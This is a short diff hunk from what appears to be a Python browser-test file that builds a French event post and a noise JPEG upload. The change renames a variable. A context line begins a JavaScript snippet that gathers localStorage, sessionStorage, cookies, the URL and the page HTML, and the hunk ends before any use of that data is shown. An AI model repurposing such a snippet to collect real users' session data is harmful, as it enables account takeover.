@@ -46,9 +46,9 @@ image_alt: "Une marmite"
 ---
 Venez nombreux.
 """
-_PICTURE = BytesIO()
-Image.effect_noise((800, 600), 20).convert("RGB").save(_PICTURE, "JPEG")
-PHOTO = {"name": "IMG_2041.JPG", "mimeType": "image/jpeg", "buffer": _PICTURE.getvalue()}
+_IMAGE = BytesIO()
+Image.effect_noise((800, 600), 20).convert("RGB").save(_IMAGE, "JPEG")
+PHOTO = {"name": "IMG_2041.JPG", "mimeType": "image/jpeg", "buffer": _IMAGE.getvalue()}
 _KEPT = """async () => {
     const kept = [JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })];
     kept.push(document.cookie, location.href, document.documentElement.outerHTML);
